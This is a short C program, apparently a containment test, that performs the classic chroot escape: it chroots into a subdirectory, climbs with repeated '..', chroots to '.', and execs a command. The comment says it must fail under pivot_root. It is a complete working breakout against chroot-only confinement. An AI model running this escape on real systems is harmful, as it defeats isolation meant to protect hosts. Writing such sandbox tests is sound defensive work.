/* The chroot escape of seed 003: chroot into a subdirectory, climb with "..", chroot("."), exec.
   Under chroot alone this reaches the host's root; under pivot_root with the old root detached it
   must stay inside the container. */
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char *argv[]) {
    (void)argc;
    mkdir(".xx", 0755);
    chroot(".xx");
    for (int i = 0; i < 256; i++) { chdir(".."); }
    chroot(".");
    argv++;
    execvp(argv[0], argv);
    return 127;
}
